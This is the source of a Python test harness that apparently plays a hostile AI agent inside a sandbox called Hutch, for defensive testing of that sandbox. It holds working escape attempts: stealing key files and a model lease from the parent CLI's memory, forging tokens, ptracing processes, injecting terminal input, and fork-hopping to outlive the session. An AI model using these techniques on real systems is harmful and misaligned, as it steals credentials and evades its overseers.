"""A hostile command of an agent: attempts each attack of `hutch_shared.attacks`. Standard library only.

    attacks.py TARGETS RESULT

    attacks.py TARGETS RESULT ESCAPE

It waits for TARGETS, a JSON object that says what is where, but no secret. It attempts each attack in a process of its
own, and prints one line of JSON for each: {"name", "got", "said"}. `got` is the evidence of a success: the secret or
answer that was obtained, or what was done; empty if every way was refused. The test compares the evidence with what it
planted, and looks itself at what should have changed, since inside a sandbox a success can be without effect outside.
`said` holds the refusals. The lines go to RESULT too. With ESCAPE it is the process that tries to escape; see `escape`.
"""
# mypy: disable-error-code="misc"
# mypy cannot infer a lambda that binds its loop's variable, which ruff asks for.

from __future__ import annotations

import contextlib
import ctypes
import errno
import fcntl
import hashlib
import json
import mmap
import os
import platform
import pty
import re
import resource
import signal
import socket
import struct
import subprocess
import sys
import termios
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

BOUND = 15
"""Seconds for one attack."""
PATIENCE = 0.5
"""Seconds for an answer of something on this machine."""
HOPPERS = 3
"""Processes that fork without end."""
RACE = 0.15
"""Seconds for a race."""
ARM = platform.machine() in ("aarch64", "arm64")
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
NUMBERS = {
    # system call numbers: of x86_64, of aarch64
    "add_key": (248, 217),
    "chmod": (90, -1),
    "fchmodat": (268, 53),
    "fchmodat2": (452, 452),
    "io_uring_setup": (425, 425),
    "ioctl": (16, 29),
    "keyctl": (250, 219),
    "pidfd_getfd": (438, 438),
    "pidfd_open": (434, 434),
    "pidfd_send_signal": (424, 424),
    "process_vm_readv": (310, 270),
    "setxattrat": (463, 463),
    "truncate": (76, 45),
    "userfaultfd": (323, 282),
    "utimensat": (280, 88),
}
AT_FDCWD = -100
NEW_USER, NEW_MOUNTS, NEW_NETWORK = 0x10000000, 0x20000, 0x40000000
LEASE = re.compile(rb"hutch-l-[0-9a-z]{16}-[\w-]{43}")
PAGE = resource.getpagesize()
On = dict[str, Any]


class Notes:
    """The results of an attack."""

    def __init__(self) -> None:
        self.got: list[str] = []
        self.said: list[str] = []

    def attempt(self, what: str, act: Callable[[], object]) -> None:
        """Call `act`; what it returns is evidence, unless that is None or empty. An OSError is a refusal."""
        try:
            found = act()
        except OSError as error:
            self.said.append(f"{what}: {errno.errorcode.get(error.errno or 0, repr(error))}"[:200])
            return
        if found in (None, b"", "", False):
            self.said.append(f"{what}: nothing")
        else:
            self.got.append(found.decode(errors="replace") if isinstance(found, bytes) else str(found))


Attempt = Callable[[On, Notes], None]
ATTEMPTS: dict[str, Attempt] = {}


def attempt(name: str) -> Callable[[Attempt], Attempt]:
    """Register the attempt of an attack."""

    def register(do: Attempt) -> Attempt:
        ATTEMPTS[name] = do
        return do

    return register


def checked(returned: int) -> int:
    """Raise errno if a call failed."""
    if returned == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return returned


def syscall(name: str, *arguments: Any) -> int:
    """Make a system call; OSError when it fails."""
    converted = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    ctypes.set_errno(0)
    return checked(int(libc.syscall(ctypes.c_long(NUMBERS[name][ARM]), *converted)))


def hash_of(path: str) -> str:
    """Return the SHA-256 of a file, which shows that it was read."""
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def plant(folder: str, on: On) -> None:
    """Create a file in a folder; the test looks whether it is there."""
    Path(folder, on["planted"]).write_text("# planted\n")


# ---------------------------------------------------------------- Hutch


@attempt("read-keys")
def reads_keys(on: On, notes: Notes) -> None:
    """Reads the files of Hutch's state."""
    for path in on["state_files"]:
        notes.attempt(f"read {path}", lambda path=path: hash_of(path))


@attempt("change-hutch")
def changes_hutch(on: On, notes: Notes) -> None:
    """Leaves files in Hutch's folders, and sockets beside its sockets."""
    for path in on["hutch_folders"]:
        notes.attempt(f"make a file in {path}", lambda path=path: plant(path, on))
        notes.attempt(f"link into {path}", lambda path=path: os.symlink("/", f"{path}/{on['planted']}.link"))
        with socket.socket(socket.AF_UNIX) if _has_unix(notes) else contextlib.nullcontext() as made:
            if made is not None:
                notes.attempt(f"listen in {path}", lambda p=path, m=made: m.bind(f"{p}/{on['planted']}.sock"))


def _has_unix(notes: Notes) -> bool:
    before = len(notes.got)
    notes.attempt("a Unix socket", lambda: socket.socket(socket.AF_UNIX).close())
    return len(notes.got) == before and not notes.said[-1].endswith(("EPERM", "EACCES", "EAFNOSUPPORT"))


@attempt("change-programs")
def changes_programs(on: On, notes: Notes) -> None:
    """Leaves a file among the programs."""
    for path in on["program_folders"]:
        notes.attempt(f"make a file in {path}", lambda path=path: plant(path, on))


def look_into(pid: int, notes: Notes) -> None:
    """Read the environment and the memory of a process, and take its descriptors."""
    notes.attempt(f"environ of {pid}", lambda: Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")[0])
    notes.attempt(f"map of {pid}", lambda: Path(f"/proc/{pid}/maps").read_text()[:1000])
    notes.attempt(f"descriptors of {pid}", lambda: os.readlink(f"/proc/{pid}/fd/1"))
    notes.attempt(f"memory of {pid}", lambda: f"descriptor {os.open(f'/proc/{pid}/mem', os.O_RDONLY)}")
    notes.attempt(f"descriptor of {pid}", lambda: syscall("pidfd_getfd", syscall("pidfd_open", pid, 0), 1, 0))


@attempt("read-hutch-memory")
def reads_hutch_memory(on: On, notes: Notes) -> None:
    """Looks into hutchd, the broker and its own executor, if their names show that these are they."""
    for pid in on["hutch_pids"]:
        if _command(pid) != b"" and b"hutch" not in _command(pid):
            notes.said.append(f"{pid} is another process here")
            continue
        look_into(pid, notes)


def _command(pid: int) -> bytes:
    with contextlib.suppress(OSError):
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    return b""


def dial(path: str, kind: int = socket.SOCK_STREAM) -> socket.socket:
    """Connect to a Unix socket."""
    made = socket.socket(socket.AF_UNIX, kind)
    made.settimeout(PATIENCE * 5)
    made.connect(path)
    return made


def call(path: str, method: str, params: dict[str, Any]) -> str:
    """Make a JSON-RPC request; return the result as text, empty when it is refused. OSError without a connection."""
    with dial(path) as made, made.makefile("rwb") as lines:
        lines.write(json.dumps({"jsonrpc": "2.0", "id": 1, "method": method, "params": params}).encode() + b"\n")
        lines.flush()
        while line := lines.readline():
            answer = json.loads(line)
            if answer.get("id") == 1 and "method" not in answer:
                return json.dumps(answer["result"]) if "result" in answer else ""
    return ""


@attempt("read-records")
def reads_records(on: On, notes: Notes) -> None:
    """Lists the sessions."""
    notes.attempt("list", lambda: call(on["client_socket"], "list_sessions", {}))


@attempt("give-orders")
def gives_orders(on: On, notes: Notes) -> None:
    """Changes the mode of another session, and of its own; also from a process whose parents have ended."""
    for session in (on["other_session"], on["own_session"]):
        order = {"session": session, "mode": "unattended"}
        notes.attempt(f"order {session}", lambda order=order: call(on["client_socket"], "set_permission_mode", order))
        notes.attempt(
            "as an orphan",
            lambda order=order: orphaned(lambda: call(on["client_socket"], "set_permission_mode", order)),
        )


def orphaned(act: Callable[[], str]) -> str:
    """Return what `act` returns in a process that is nobody's child here."""
    reading, writing = os.pipe()
    child = os.fork()
    if not child:
        os.setsid()
        if not os.fork():
            with contextlib.suppress(OSError):
                os.write(writing, act().encode())
        os._exit(0)
    os.close(writing)
    os.waitpid(child, 0)
    with os.fdopen(reading) as text:
        return text.read()


@attempt("pose-as-executor")
def poses(on: On, notes: Notes) -> None:
    """Says hello with a token that it has made up."""
    hello = {"executor": on["other_executor"], "token": "x" * 43, "protocol": on["protocol"]}
    notes.attempt("hello", lambda: call(on["executor_socket"], "hello", {**hello, "version": "0", "epoch_seen": 0}))


@attempt("ask-launcher")
def asks_launcher(on: On, notes: Notes) -> None:
    """Asks the launcher whether it would start an executor as the other user."""

    def probe() -> bytes:
        with dial(on["launcher_socket"], socket.SOCK_SEQPACKET) as made:
            made.send(struct.pack(">8sBxxxI32sQIIII56x", b"hutchL01", 1, on["launched"], b"", 0, 0, 0, 0, 0))
            answer = made.recv(512)
        notes.said.append(answer[36:].rstrip(b"\0").decode(errors="replace"))
        return answer[:8] if answer[8:9] == b"\0" else b""

    notes.attempt("probe", probe)


@attempt("control-broker")
def controls_broker(on: On, notes: Notes) -> None:
    """Says hello with a token that it has made up."""
    hello = {"token": "x" * 43, "version": "0", "protocol": on["protocol"]}
    notes.attempt("hello", lambda: call(on["control_socket"], "hello", hello))


def ask_model(on: On, lease: str) -> str:
    """Ask the model through the broker; return the first line of an answer of 200."""
    with dial(on["broker_socket"]) as made:
        made.sendall(on["request"].replace("LEASE", lease).encode())
        line = made.recv(500).split(b"\r\n")[0].decode()
    return line if " 200" in line else ""


@attempt("use-broker")
def uses_broker(on: On, notes: Notes) -> None:
    """Asks the model without a lease."""
    notes.attempt("no lease", lambda: ask_model(on, ""))
    notes.attempt("a lease made up", lambda: ask_model(on, f"hutch-l-{'a' * 16}-{'x' * 43}"))


# ---------------------------------------------------------------- leases


def ancestors() -> list[int]:
    """Return the parents of this process, as far as /proc shows them."""
    found, pid = [], os.getppid()
    with contextlib.suppress(OSError, ValueError):
        while pid > 1:
            found.append(pid)
            pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
    return found


def lease_of(pid: int) -> str:
    """Return a lease in the writable memory of a process; empty without one."""
    with (
        open(f"/proc/{pid}/maps") as maps,
        open(f"/proc/{pid}/mem", "rb", 0) as memory,
        open(f"/proc/{pid}/pagemap", "rb", 0) as pages,
    ):
        for line in maps:
            span, mode, *_ = line.split()
            if mode[:2] == "rw":
                start, end = (int(side, 16) for side in span.split("-"))
                for part in present(memory, pages, start, end):
                    if found := LEASE.search(part):
                        return found[0].decode()
    return ""


def present(memory: Any, pages: Any, start: int, end: int) -> Iterator[bytes]:
    """Yield the runs of pages between two addresses that are in memory."""
    for at in range(start, end, PAGE << 16):
        count = (min(end, at + (PAGE << 16)) - at) // PAGE
        pages.seek(at // PAGE * 8)
        entries = pages.read(count * 8)
        if not any(entries):
            continue
        flags = [bool(entry >> 62) for (entry,) in struct.iter_unpack("<Q", entries)]
        first = 0
        while first < len(flags):
            last = first
            while last < len(flags) and flags[last] == flags[first]:
                last += 1
            if flags[first]:
                with contextlib.suppress(OSError):
                    memory.seek(at + first * PAGE)
                    yield memory.read((last - first) * PAGE)
            first = last


@attempt("own-lease")
def uses_own_lease(on: On, notes: Notes) -> None:
    """Takes the lease from the memory of the CLI that started it, and asks the model."""
    for pid in ancestors():

        def use(pid: int = pid) -> str:
            lease = lease_of(pid)
            return ask_model(on, lease) if lease else ""

        notes.attempt(f"lease of {pid}", use)
        if notes.got:
            return


@attempt("control-cli")
def controls_cli(on: On, notes: Notes) -> None:
    """Writes into the memory of the CLI that started it, the byte that is there, and into its input and output."""
    for pid in ancestors():

        def write(pid: int = pid) -> str:
            line = next(one for one in Path(f"/proc/{pid}/maps").read_text().splitlines() if " rw-p " in one)
            with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
                memory.seek(int(line.split("-")[0], 16))
                byte = memory.read(1)
                memory.seek(-1, os.SEEK_CUR)
                return "written" if memory.write(byte) == 1 else ""

        if b"claude" in _command(pid):
            notes.attempt(f"memory of {pid}", write)
        if _command(pid).split(b"\0")[0].endswith(b"/claude"):
            for stream in (0, 1):

                def speak(path: str = f"/proc/{pid}/fd/{stream}") -> str:
                    with open(path, "w") as file:
                        return "written" if file.write("\n") else ""

                notes.attempt(f"stream {stream} of {pid}", speak)


@attempt("take-lease")
def takes_lease(on: On, notes: Notes) -> None:
    """Reads the memory of another session's CLI."""
    for pid in on["other_pids"]:
        if b"hutch" in _command(pid) or b"claude" in _command(pid) or not _command(pid):
            notes.attempt(f"lease of {pid}", lambda pid=pid: lease_of(pid))


@attempt("use-lease")
def uses_lease(on: On, notes: Notes) -> None:
    """Asks the model with the lease of another session."""
    notes.attempt("another's lease", lambda: ask_model(on, on["other_lease"]))


# ---------------------------------------------------------------- sessions


@attempt("read-sessions")
def reads_sessions(on: On, notes: Notes) -> None:
    """Reads the other session's files."""
    for path in on["other_files"]:
        notes.attempt(f"read {path}", lambda path=path: hash_of(path))


@attempt("change-sessions")
def changes_sessions(on: On, notes: Notes) -> None:
    """Leaves files in the other session's folders."""
    for path in on["other_folders"]:
        notes.attempt(f"make a file in {path}", lambda path=path: plant(path, on))


@attempt("foreign-sessions")
def reads_foreign_sessions(on: On, notes: Notes) -> None:
    """Reads a file of another owner, and the environment of another owner's process."""
    notes.attempt("file", lambda: hash_of(on["foreign_file"]))
    notes.attempt("environ", lambda: _victims_environ(on["foreign_pid"]))
    notes.attempt("make a file", lambda: plant(on["foreign_folder"], on))


# ---------------------------------------------------------------- the home


@attempt("read-secrets")
def reads_secrets(on: On, notes: Notes) -> None:
    """Reads a key file: by its path, by links and through /proc."""
    path, home = on["secret"], on["home"]
    notes.attempt("read", lambda: hash_of(path))
    for name, link in (("hard", os.link), ("soft", os.symlink)):
        notes.attempt(f"{name} link", lambda name=name, link=link: link(path, f"{name}.{on['planted']}"))
        notes.attempt(f"by a {name} link", lambda name=name: hash_of(f"{name}.{on['planted']}"))
    notes.attempt("by a handle", lambda: hash_of(f"/proc/self/fd/{os.open(path, os.O_PATH)}"))
    notes.attempt("below a handle", lambda: _below(os.open(home, os.O_PATH), os.path.relpath(path, home)))
    for pid in (on["victim"]["pid"], 1, *ancestors()):
        notes.attempt(f"by the root of {pid}", lambda pid=pid: hash_of(f"/proc/{pid}/root{path}"))
        notes.attempt(f"by the folder of {pid}", lambda pid=pid: hash_of(f"/proc/{pid}/cwd/{os.path.basename(path)}"))


def _below(folder: int, name: str) -> str:
    with os.fdopen(os.open(name, os.O_RDONLY, dir_fd=folder), "rb") as file:
        return hashlib.sha256(file.read()).hexdigest()


@attempt("list-home")
def lists_home(on: On, notes: Notes) -> None:
    """Lists the home by its path and by a handle."""
    notes.attempt("list", lambda: " ".join(os.listdir(on["home"])))
    notes.attempt("list a handle", lambda: " ".join(os.listdir(f"/proc/self/fd/{os.open(on['home'], os.O_PATH)}")))


@attempt("learn-names")
def learns_names(on: On, notes: Notes) -> None:
    """Asks for the size and time of a file, and for the target of a link."""
    notes.attempt("stat", lambda: f"{os.stat(on['secret']).st_size} {os.stat(on['secret']).st_mtime_ns}")
    notes.attempt("link", lambda: os.readlink(on["link"]))


@attempt("write-home")
def writes_home(on: On, notes: Notes) -> None:
    """Adds a file, and a line to a start-up file."""
    notes.attempt("make a file", lambda: plant(on["home"], on))

    def append() -> None:
        with open(on["startup"], "a") as file:
            file.write(f"# {on['planted']}\n")

    notes.attempt("append", append)


@attempt("truncate-files")
def truncates_files(on: On, notes: Notes) -> None:
    """Truncates a file: by its path, by a handle and by opening it."""
    path = on["truncated"]
    notes.attempt("truncate", lambda: os.truncate(path, 0))
    notes.attempt("by call", lambda: syscall("truncate", os.fsencode(path), 0) and None)
    notes.attempt("by a handle", lambda: os.truncate(f"/proc/self/fd/{os.open(path, os.O_PATH)}", 0))
    notes.attempt("open", lambda: os.close(os.open(path, os.O_WRONLY | os.O_TRUNC)))


@attempt("move-files")
def moves_files(on: On, notes: Notes) -> None:
    """Links and moves files into its working directory, and a file of its own over one of the home."""
    first, second = on["moved"]
    Path(f"{on['planted']}.own").write_text("own")
    notes.attempt("link", lambda: os.link(first, f"linked.{on['planted']}"))
    notes.attempt("move over", lambda: os.rename(f"{on['planted']}.own", first))
    notes.attempt("move", lambda: os.rename(second, f"moved.{on['planted']}"))


@attempt("change-modes")
def changes_modes(on: On, notes: Notes) -> None:
    """Changes the mode of a file by each call, by links and handles, and while names and links change."""
    path = on["mode"]
    home, name, wanted = os.path.dirname(path), os.path.basename(path), 0o666
    raw, link = os.fsencode(path), f"link.{on['planted']}"
    own = Path(f"{on['planted']}.mine")
    own.write_text("own")
    notes.attempt("chmod", lambda: os.chmod(path, wanted))
    if not ARM:
        notes.attempt("the old call", lambda: syscall("chmod", raw, wanted) and None)
    notes.attempt("fchmodat", lambda: syscall("fchmodat", AT_FDCWD, raw, wanted) and None)
    notes.attempt("fchmodat2", lambda: syscall("fchmodat2", AT_FDCWD, raw, wanted, 0x100) and None)
    notes.attempt("by a handle", lambda: os.chmod(f"/proc/self/fd/{os.open(path, os.O_PATH)}", wanted))
    notes.attempt("the handle", lambda: syscall("fchmodat2", os.open(path, os.O_PATH), b"", wanted, 0x1000) and None)
    notes.attempt("below a handle", lambda: os.chmod(name, wanted, dir_fd=os.open(home, os.O_PATH)))
    notes.attempt("link", lambda: os.symlink(path, link))
    notes.attempt("by a link", lambda: os.chmod(link, wanted))
    notes.attempt("by a folder", lambda: os.chmod(f"{link}.d/{name}", wanted) if _linked(home, f"{link}.d") else None)
    notes.attempt("chown", lambda: os.chown(path, os.getuid(), os.getgid()))
    notes.attempt("lchown", lambda: os.lchown(path, os.getuid(), os.getgid()))
    notes.attempt("while its name changes", lambda: _race_of_names(raw, os.fsencode(own.absolute()), wanted))
    notes.attempt("while a link changes", lambda: _race_of_links(path, str(own.absolute()), wanted, on))


def _linked(target: str, name: str) -> bool:
    os.symlink(target, name)
    return True


def _race_of_names(foreign: bytes, own: bytes, wanted: int) -> None:
    """Change a mode again and again, while another process changes the name in the memory of the call."""
    names = [one.ljust(max(len(foreign), len(own)) + 1, b"\0") for one in (own, foreign)]
    room = mmap.mmap(-1, PAGE)
    room[: len(names[0])] = names[0]
    address = ctypes.addressof(ctypes.c_char.from_buffer(room))
    until = time.monotonic() + RACE
    child = os.fork()
    if not child:
        while time.monotonic() < until:
            for one in names:
                room[: len(one)] = one
        os._exit(0)
    while time.monotonic() < until:
        libc.syscall(ctypes.c_long(NUMBERS["fchmodat"][ARM]), AT_FDCWD, ctypes.c_void_p(address), wanted)
    os.waitpid(child, 0)


def _race_of_links(foreign: str, own: str, wanted: int, on: On) -> None:
    """Change a mode again and again, while another process lets a link lead elsewhere."""
    link = f"race.{on['planted']}"
    os.symlink(own, link)
    until = time.monotonic() + RACE
    child = os.fork()
    if not child:
        while time.monotonic() < until:
            for target in (foreign, own):
                os.symlink(target, f"{link}.new")
                os.rename(f"{link}.new", link)
        os._exit(0)
    while time.monotonic() < until:
        libc.syscall(ctypes.c_long(NUMBERS["fchmodat"][ARM]), AT_FDCWD, os.fsencode(link), wanted)
    os.waitpid(child, 0)


@attempt("change-attributes")
def changes_attributes(on: On, notes: Notes) -> None:
    """Sets an extended attribute, by each call."""
    path, name, value = on["attributes"], "user.planted", b"planted"
    notes.attempt("setxattr", lambda: os.setxattr(path, name, value))
    notes.attempt("lsetxattr", lambda: os.setxattr(path, name, value, follow_symlinks=False))
    notes.attempt("by a handle", lambda: os.setxattr(f"/proc/self/fd/{os.open(path, os.O_PATH)}", name, value))
    text = ctypes.create_string_buffer(value)
    given = struct.pack("QII", ctypes.addressof(text), len(value), 0)
    notes.attempt(
        "setxattrat",
        lambda: syscall("setxattrat", AT_FDCWD, os.fsencode(path), 0, name.encode(), given, len(given)) and None,
    )


@attempt("change-times")
def changes_times(on: On, notes: Notes) -> None:
    """Sets the time of the last change."""
    notes.attempt("utime", lambda: os.utime(on["times"], (1, 1)))


@attempt("watch-files")
def watches_files(on: On, notes: Notes) -> None:
    """Watches the home, in which a file changes all the time, and returns the name of the file."""

    def watch() -> bytes:
        made = checked(libc.inotify_init1(os.O_CLOEXEC | os.O_NONBLOCK))
        checked(libc.inotify_add_watch(made, os.fsencode(on["home"]), 0x2))
        until = time.monotonic() + PATIENCE
        while time.monotonic() < until:
            with contextlib.suppress(BlockingIOError):
                return os.read(made, 4096)[16:].split(b"\0")[0]
            time.sleep(0.01)
        return b""

    notes.attempt("watch", watch)


# ---------------------------------------------------------------- processes


@attempt("see-processes")
def sees_processes(on: On, notes: Notes) -> None:
    """Reads the command lines of all processes."""
    pids = filter(str.isdigit, os.listdir("/proc"))
    notes.attempt("look", lambda: b"\n".join(one for pid in pids if b"victim.py" in (one := _command(int(pid)))))


def _victims_environ(pid: int) -> bytes:
    words = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
    return b" ".join(word for word in words if word.startswith(b"VICTIM="))


@attempt("read-processes")
def reads_processes(on: On, notes: Notes) -> None:
    """Reads the environment and the memory of a program of the account."""
    victim = on["victim"]
    notes.attempt("environ", lambda: _victims_environ(victim["pid"]))

    def read() -> bytes:
        with open(f"/proc/{victim['pid']}/mem", "rb", 0) as memory:
            memory.seek(victim["memory"])
            return memory.read(victim["length"])

    notes.attempt("memory", read)


@attempt("trace-processes")
def traces_processes(on: On, notes: Notes) -> None:
    """Reads memory as a tracer and by process_vm_readv, and takes a descriptor."""
    victim = on["victim"]
    pid, room = victim["pid"], ctypes.create_string_buffer(victim["length"])

    def read() -> bytes:
        here = (ctypes.c_ulong * 2)(ctypes.addressof(room), victim["length"])
        there = (ctypes.c_ulong * 2)(victim["memory"], victim["length"])
        syscall("process_vm_readv", pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        return room.raw

    def trace() -> bytes:
        checked(libc.ptrace(16, pid, None, None))
        os.waitpid(pid, 0x40000000)
        libc.ptrace.restype = ctypes.c_long
        word = libc.ptrace(1, pid, ctypes.c_void_p(victim["memory"]), None)
        checked(libc.ptrace(17, pid, None, None))
        return struct.pack("l", word)

    notes.attempt("process_vm_readv", read)
    notes.attempt("ptrace", trace)
    if on["victim_name"].encode() in _command(pid) or not _command(pid):
        notes.attempt("descriptor", lambda: f"fd {syscall('pidfd_getfd', syscall('pidfd_open', pid, 0), 0, 0)}")


@attempt("signal-processes")
def signals_processes(on: On, notes: Notes) -> None:
    """Sends a program of the account a signal that it counts."""
    pid = on["victim"]["pid"]
    if _command(pid) and on["victim_name"].encode() not in _command(pid):
        notes.said.append("that is another process here")
        return
    notes.attempt("kill", lambda: os.kill(pid, signal.SIGUSR1))
    notes.attempt(
        "by a handle", lambda: syscall("pidfd_send_signal", syscall("pidfd_open", pid, 0), 10, None, 0) and ""
    )


@attempt("steer-processes")
def steers_processes(on: On, notes: Notes) -> None:
    """Lowers the priority of a program of the account."""
    pid = on["victim"]["pid"]
    if _command(pid) and on["victim_name"].encode() not in _command(pid):
        notes.said.append("that is another process here")
        return
    notes.attempt("priority", lambda: os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(os.PRIO_PROCESS, pid) + 1))


@attempt("limit-processes")
def limits_processes(on: On, notes: Notes) -> None:
    """Lowers a limit of a program of the account by one. A limit of no processor time would kill it."""
    pid = on["victim"]["pid"]
    if _command(pid) and on["victim_name"].encode() not in _command(pid):
        notes.said.append("that is another process here")
        return

    def lower() -> None:
        soft, hard = resource.prlimit(pid, resource.RLIMIT_MSGQUEUE)
        resource.prlimit(pid, resource.RLIMIT_MSGQUEUE, (soft - 1, hard - 1))

    def lower_blindly() -> None:
        resource.prlimit(pid, resource.RLIMIT_MSGQUEUE, (on["limit"] - 1, on["limit"] - 1))

    notes.attempt("lower", lower)
    notes.attempt("lower without a look", lower_blindly)


@attempt("outlive")
def outlives(on: On, notes: Notes) -> None:
    """Leaves processes that fork without end, so that none lives long enough to be found and killed.

    They write to a file as long as they live, and end when the test says so.
    """
    stop, beat = Path(f"{on['planted']}.stop"), f"{on['planted']}.beat"
    for pid in on["executor_pids"]:
        if b"hutch" in _command(pid):
            notes.attempt("slow", lambda pid=pid: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)))
    for _ in range(HOPPERS):
        if os.fork():
            continue
        os.setsid()
        signal.alarm(0)
        for fd in range(3):
            os.dup2(os.open("/dev/null", os.O_RDWR), fd)
        os.closerange(3, 64)
        file = os.open(beat, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
        until = time.monotonic() + 60
        while not stop.exists() and time.monotonic() < until:
            os.write(file, b".")
            for _ in range(20):
                if libc.fork() > 0:
                    libc._exit(0)
        os._exit(0)
    notes.said.append("left")


# ---------------------------------------------------------------- between processes


def ask(made: socket.socket, address: Any) -> bytes:
    """Connect, ask and return the answer."""
    with made:
        made.settimeout(PATIENCE)
        made.connect(address)
        made.sendall(b"hello")
        return made.recv(500)


@attempt("session-bus")
def asks_bus(on: On, notes: Notes) -> None:
    """Asks the session bus."""
    notes.attempt("ask", lambda: ask(socket.socket(socket.AF_UNIX), on["victim"]["bus"]))


@attempt("ssh-agent")
def asks_agent(on: On, notes: Notes) -> None:
    """Asks the ssh-agent."""
    notes.attempt("ask", lambda: ask(socket.socket(socket.AF_UNIX), on["victim"]["agent"]))


@attempt("abstract-sockets")
def asks_abstract_sockets(on: On, notes: Notes) -> None:
    """Asks an abstract socket."""
    notes.attempt("ask", lambda: ask(socket.socket(socket.AF_UNIX), "\0" + on["victim"]["abstract"]))


@attempt("datagram-sockets")
def sends_datagrams(on: On, notes: Notes) -> None:
    """Sends through a socket, and through each end of a socket pair."""
    path, word = on["victim"]["log"], on["planted"].encode()
    notes.attempt("send", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(word, path) and None)
    for kind in (socket.SOCK_DGRAM, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK, socket.SOCK_RAW):
        notes.attempt(
            f"a pair of {kind}", lambda kind=kind: socket.socketpair(type=kind)[0].sendto(word, path) and None
        )
        notes.attempt(f"connect {kind}", lambda kind=kind: _connected(kind, path).send(word) and None)


def _connected(kind: int, path: str) -> socket.socket:
    made, _ = socket.socketpair(type=kind)
    made.connect(path)
    return made


@attempt("shared-memory")
def takes_shared_memory(on: On, notes: Notes) -> None:
    """Attaches the shared memory of a program."""

    def attach() -> bytes:
        address = libc.shmat(on["victim"]["shm"], None, 0)
        if address in (None, ctypes.c_void_p(-1).value):
            checked(-1)
        return ctypes.string_at(address)

    notes.attempt("attach", attach)


@attempt("read-shared-folders")
def reads_shared_folders(on: On, notes: Notes) -> None:
    """Reads what others left in folders that everybody may write."""
    for path in on["victim"]["shared"]:
        notes.attempt(f"read {path}", lambda path=path: Path(path).read_bytes())


@attempt("leave-files")
def leaves_files(on: On, notes: Notes) -> None:
    """Leaves files there."""
    for path in on["shared_folders"]:
        notes.attempt(f"make a file in {path}", lambda path=path: plant(path, on))


@attempt("devices")
def opens_devices(on: On, notes: Notes) -> None:
    """Reads from a device that everybody may open."""
    notes.attempt("read", lambda: os.read(os.open(on["device"], os.O_RDONLY), 4).hex())


@attempt("write-terminal")
def writes_terminal(on: On, notes: Notes) -> None:
    """Writes to a terminal of the account."""
    path = on["victim"]["terminal"]
    notes.attempt("write", lambda: os.write(os.open(path, os.O_WRONLY | os.O_NOCTTY), on["planted"].encode()) and None)


@attempt("type-terminal")
def types_terminal(on: On, notes: Notes) -> None:
    """Types into a terminal of its own: what works there works at every terminal that a program shares with others."""

    def push(request: int) -> bytes:
        os.setsid()
        _, slave = pty.openpty()
        fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
        for one in b"typed\n":
            syscall("ioctl", slave, request, ctypes.c_char_p(bytes([one])))
        os.set_blocking(slave, False)
        return os.read(slave, 20)  # the end of the master's last descriptor would end this process

    for what, request in (("TIOCSTI", termios.TIOCSTI), ("with other upper bits", termios.TIOCSTI | 1 << 32)):
        notes.attempt(what, lambda request=request: in_child(lambda: push(request)))
    # Without a terminal the kernel looks at the call and says ENOTTY; a filter refuses it before. So this shows a
    # filter, or that there is none, also where no terminal can be made.
    for what, request in (("TIOCSTI asked", termios.TIOCSTI), ("TIOCLINUX asked", termios.TIOCLINUX)):
        notes.attempt(what, lambda request=request: _is_considered(request))


def _is_considered(request: int) -> str:
    null = os.open(os.devnull, os.O_RDONLY)
    try:
        syscall("ioctl", null, request, b"\x02")
    except OSError as error:
        if error.errno != errno.ENOTTY:
            raise
    return "considered"


def in_child(act: Callable[[], bytes]) -> bytes:
    """Return what `act` returns in a child, or raise its OSError."""
    reading, writing = os.pipe()
    child = os.fork()
    if not child:
        try:
            os.write(writing, b"+" + act())
        except OSError as error:
            os.write(writing, b"-%d" % (error.errno or 0))
        os._exit(0)
    os.close(writing)
    with os.fdopen(reading, "rb") as text:
        said = text.read()
    _, status = os.waitpid(child, 0)
    if said.startswith(b"-"):
        raise OSError(int(said[1:]), os.strerror(int(said[1:])))
    if not said:
        raise OSError(errno.EINTR, f"ended by {status}")
    return said[1:]


# ---------------------------------------------------------------- the network


@attempt("loopback")
def asks_servers(on: On, notes: Notes) -> None:
    """Asks a server on the host's loopback."""
    notes.attempt("ask", lambda: ask(socket.socket(), ("127.0.0.1", on["victim"]["tcp"])))


@attempt("udp")
def asks_by_udp(on: On, notes: Notes) -> None:
    """Asks a server by UDP."""
    notes.attempt(
        "ask", lambda: ask(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), ("127.0.0.1", on["victim"]["udp"]))
    )


@attempt("listen")
def listens(on: On, notes: Notes) -> None:
    """Waits for somebody who connects."""

    def accept() -> bytes:
        with socket.socket() as made:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            made.bind(("127.0.0.1", on["victim"]["calls"]))
            made.listen()
            made.settimeout(PATIENCE)
            with made.accept()[0] as one:
                return one.recv(500)

    notes.attempt("accept", accept)


@attempt("vsock")
def makes_vsock(on: On, notes: Notes) -> None:
    """Makes a socket of the hypervisor's, of each type."""
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        notes.attempt(f"socket of {kind}", lambda kind=kind: f"{socket.socket(40, kind)}")


@attempt("socket-families")
def makes_sockets(on: On, notes: Notes) -> None:
    """Makes a socket of each family but the four that agents need, also as root of a network of its own."""

    def packet() -> bytes:
        checked(libc.unshare(NEW_USER | NEW_NETWORK))
        return str(socket.socket(socket.AF_PACKET, socket.SOCK_RAW)).encode()

    notes.attempt("packets", lambda: in_child(packet))
    for family in set(range(3, 64)) - {10, 16, 40}:
